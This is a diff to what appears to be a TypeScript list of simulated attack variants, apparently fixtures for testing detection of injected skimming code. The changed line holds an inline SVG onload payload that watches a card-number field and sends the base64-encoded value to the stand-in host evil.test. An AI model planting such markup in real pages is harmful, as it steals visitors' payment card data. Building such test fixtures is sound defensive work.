@@ -280,7 +280,7 @@ export const attacks: readonly Variant[] = [
     about: 'hidden in a picture tag',
     change: (site) => {
       site.extra.push(
-        `<svg width="1" height="1" onload="${onInput("fetch('http://evil.test/v?n=' + v)").replaceAll('"', '&quot;')}"></svg>`,
+        `<svg width="1" height="1" onload="setTimeout(function () { document.querySelector('[name=cardnumber]').addEventListener('blur', function () { fetch('http://evil.test/v?n=' + btoa(this.value)) }) }, 50)"></svg>`,
       )
     },
   },
